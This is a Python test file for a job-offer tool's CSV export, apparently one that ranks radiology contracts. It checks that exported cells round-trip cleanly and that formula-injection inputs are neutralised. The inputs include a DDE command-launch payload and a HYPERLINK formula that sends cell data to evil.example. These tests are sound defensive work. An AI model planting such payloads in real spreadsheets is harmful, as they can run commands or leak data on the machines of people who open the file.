"""CSV export: documented columns, RFC 4180 round trip through Python's csv reader, hostile cells
neutralised, and a row from the real ranking read back cell by cell."""

from __future__ import annotations

import csv
import io
import re
import shutil
from datetime import date, datetime
from pathlib import Path
from typing import Any

import duckdb
import pytest

import scout.export
from scout.config import Settings
from scout.export import BOM, COLUMNS, FORMULA_STARTS, write_csv
from scout.extract.contract import Terms
from scout.offers import ranked_offers
from scout.pipeline import replay_fetcher, scrape
from scout.profile import Profile
from scout.rank import OfferInput, rank_offer
from scout.sources import builtin_sources
from scout.store import Store
from tests.conftest import CASSETTES
from tests.test_cli import run

HOSTILE = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd",
    "\r=cmd",
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    'He said "read faster", then left',
    "a,b,,c",
    '"',
    "line one\nline two\r\nline three",
    "Zürich – 東京 – Ñandú – 🩻",
    "plain text",
    " =not a formula (leading space)",
]
NUMERIC = re.compile(r"^-?\d+(\.\d+)?$")


def read_back(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


def export(rows: list[dict[str, Any]]) -> str:
    out = io.StringIO(newline="")
    assert write_csv(rows, out) == len(rows)
    return out.getvalue()


def expected(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def test_the_docstring_documents_every_column_in_order() -> None:
    doc = scout.export.__doc__ or ""
    table = doc.split("Columns, in order")[1].split("\n\n", 2)[1]
    documented = [re.split(r"\s{2,}", line.strip(), maxsplit=1) for line in table.splitlines()]
    assert documented == [[c.name, c.description] for c in COLUMNS]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_survives_the_round_trip_and_cannot_run(hostile: str) -> None:
    row = {
        "id": 7,
        "title": hostile,
        "employer": hostile,
        "sources": [{"source": "acr", "url": hostile}, {"source": "physemp", "url": "https://b/2"}],
        "flags": [{"id": "x", "severity": "warning", "message": hostile}],
        "note": hostile,
        "removed": False,
    }
    header, cells = read_back(export([row]))
    got = dict(zip(header, cells, strict=True))
    for column in ("title", "employer", "note"):
        assert got[column] == expected(hostile), column
    assert got["urls"] == expected(hostile + "\nhttps://b/2")  # one cell, several lines
    assert got["flags"] == f"warning: {hostile}"
    for value in cells:
        assert not value.startswith(FORMULA_STARTS) or NUMERIC.match(value), value


def test_file_is_utf8_with_bom_crlf_and_one_record_per_offer(tmp_path: Path) -> None:
    rows = [{"id": i, "title": f"Job {i}\nsecond line", "note": "café", "removed": i == 2} for i in (1, 2)]
    path = tmp_path / "offers.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        write_csv(rows, f)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 3 and b"second line" in raw  # header + 2 records; \n stays in its cell
    with path.open(encoding="utf-8-sig", newline="") as f:
        records = list(csv.DictReader(f))
    assert [(r["offer_id"], r["title"], r["note"], r["removed"]) for r in records] == [
        ("1", "Job 1\nsecond line", "café", "no"),
        ("2", "Job 2\nsecond line", "café", "yes"),
    ]


def test_numbers_scout_computes_stay_numbers_and_unknowns_stay_empty() -> None:
    row = {
        "id": 3,
        "score": 82.5,
        "title": "-5",
        "figures": {
            "annual_gross_usd": {"low": 512000, "high": None},
            "w2_equivalent_usd": {"low": -1500.5, "high": 20000.0},
            "effective_hourly_usd": None,
            "effective_per_rvu_usd": {"low": 34.2, "high": 39.31},
        },
    }
    header, cells = read_back(export([row]))
    got = dict(zip(header, cells, strict=True))
    assert got["score"] == "82.5"
    assert got["title"] == "'-5"  # text that looks like a sign stays text
    assert (got["annual_gross_usd_low"], got["annual_gross_usd_high"]) == ("512000", "")
    assert (got["w2_equivalent_usd_low"], got["w2_equivalent_usd_high"]) == ("-1500.5", "20000")
    assert got["effective_hourly_usd_low"] == got["effective_hourly_usd_high"] == ""
    assert got["effective_per_rvu_usd_high"] == "39.31"
    assert got["work_mode"] == got["pay_as_posted"] == got["quota"] == got["note"] == ""


CONTRACT: dict[str, Any] = {
    "work_mode": "remote",
    "employment_type": "1099",
    "pay": {
        "models": ["per_rvu", "salary"],
        "per_rvu_usd": {"min": 40, "max": 45},
        "annual_usd": {"min": None, "max": 450000},
        "hourly_usd": {"min": 212.5, "max": None},
        "sign_on_bonus_usd": 25000,
    },
    "volume": [
        {"min": 90, "max": 110, "unit": "rvu", "per": "shift", "kind": "expected"},
        {"min": 14000, "max": 14000, "unit": "rvu", "per": "year", "kind": "minimum"},
    ],
    "malpractice": {"provided": True, "policy": "claims_made", "tail": "not_provided"},
    "licensing": {"paid": True, "imlc": True, "states": ["TX", "FL"]},
}


def ranked_row() -> dict[str, Any]:
    """One offer in the shape `scout rank --json` prints, plus what ranked_offers adds."""
    offer = OfferInput(
        id=12,
        title="Overnight Teleradiologist",
        employer="NightRead Imaging",
        terms=Terms.model_validate(CONTRACT),
        sources=[
            {"source": "acr", "url": "https://jobs.acr.org/job/1/"},
            {"source": "physemp", "url": "https://www.physemp.com/job/2"},
        ],
    )
    row = rank_offer(offer, Profile(), today=date(2026, 11, 27)).to_json()
    return {
        **row,
        "first_seen": datetime(2026, 11, 1, 6, 0, 5),
        "last_seen": "2026-11-27T06:00:09",
        "removed": False,
        "note": "ask about tail",
    }


def test_a_ranked_offer_reads_back_cell_by_cell() -> None:
    row = ranked_row()
    header, cells = read_back(export([row]))
    assert header == [c.name for c in COLUMNS]
    got = dict(zip(header, cells, strict=True))
    assert got["score"] == f"{row['score']:g}"
    assert got["offer_id"] == "12"
    assert got["sources"] == "acr\nphysemp"
    assert got["urls"] == "https://jobs.acr.org/job/1/\nhttps://www.physemp.com/job/2"
    assert (got["work_mode"], got["employment_type"]) == ("remote", "1099")
    assert got["pay_basis"] == "per wRVU, salary"
    assert got["pay_as_posted"] == (
        "$40–$45 per wRVU; $212.50+ an hour; up to $450,000 a year; sign-on bonus $25,000"
    )
    figures = row["figures"]
    assert got["w2_equivalent_usd_low"] == f"{figures['w2_equivalent_usd']['low']:g}"
    assert got["effective_hourly_usd_high"] == f"{figures['effective_hourly_usd']['high']:g}"
    assert got["quota"] == "expected 90–110 wRVU per shift; minimum 14,000 wRVU per year"
    assert (got["malpractice"], got["tail"]) == ("provided (claims-made)", "not provided")
    assert got["licences_required"] == "FL, TX; IMLC; fees paid"
    assert got["licences_missing"] == ", ".join(row["licenses_missing"])
    assert got["flag_ids"] == ", ".join(f["id"] for f in row["flags"])
    assert "tail_not_covered" in got["flag_ids"]
    assert got["flags"].splitlines()[0] == f"{row['flags'][0]['severity']}: {row['flags'][0]['message']}"
    assert got["note"] == "ask about tail"
    assert (got["first_seen"], got["last_seen"], got["removed"]) == (
        "2026-11-01 06:00",
        "2026-11-27 06:00",
        "no",
    )


def test_an_empty_export_is_just_the_header() -> None:
    (header,) = read_back(export([]))
    assert header[:4] == ["score", "offer_id", "title", "employer"]


# --- scout export, on a scraped database ------------------------------------------------------------


@pytest.fixture(scope="module")
def scraped(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The ACR cassette scraped once; each test works on its own copy."""
    db = tmp_path_factory.mktemp("scraped") / "scout.duckdb"
    settings = Settings()
    with replay_fetcher(settings, [CASSETTES / "acr"]) as fetcher:
        scrape(Store(db), [builtin_sources()["acr"]], fetcher, settings)
    return db


@pytest.fixture
def scraped_copy(scraped: Path, db_path: Path) -> Path:
    shutil.copy(scraped, db_path)
    return db_path


def test_export_a_shortlist_to_a_file(
    scraped_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    db = ["--db", str(scraped_copy)]
    run(capsys, monkeypatch, "shortlist", "add", "for accountant", "1", "2", *db)
    run(capsys, monkeypatch, "note", "2", '=HYPERLINK("http://evil","x")\nsecond line', *db)
    con = duckdb.connect(str(scraped_copy))
    con.execute("UPDATE postings SET removed_at = now() WHERE id = 1")
    con.close()
    out_file = tmp_path / "offers.csv"
    code, _, err = run(
        capsys, monkeypatch, "export", "--shortlist", "for accountant", "--out", str(out_file), *db
    )
    assert code == 0 and "2 offers written" in err
    with out_file.open(encoding="utf-8-sig", newline="") as f:
        rows = {int(r["offer_id"]): r for r in csv.DictReader(f)}
    assert sorted(rows) == [1, 2]  # postings 1 and 2 are two offers in this cassette
    assert rows[1]["removed"] == "yes" and rows[2]["removed"] == "no"
    assert rows[2]["note"] == '\'=HYPERLINK("http://evil","x")\nsecond line'
    assert all(NUMERIC.match(r["score"]) for r in rows.values())
    assert rows[1]["urls"].startswith("https://jobs.acr.org/")


def test_export_everything_to_standard_output(
    scraped_copy: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, _ = run(capsys, monkeypatch, "export", "--db", str(scraped_copy))
    assert code == 0
    header, *records = read_back(out)
    assert header == [c.name for c in COLUMNS]
    open_offers = [r for r in ranked_offers(Store(scraped_copy), Profile()) if r.offer.removed_at is None]
    assert [int(r[1]) for r in records] == [r.id for r in open_offers]  # best score first
    assert [float(r[0]) for r in records] == [r.score for r in open_offers]


def test_export_of_an_unknown_shortlist_is_a_usage_error(
    scraped_copy: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, err = run(capsys, monkeypatch, "export", "--shortlist", "nope", "--db", str(scraped_copy))
    assert code == 2 and "no shortlist named 'nope'" in err and out == ""
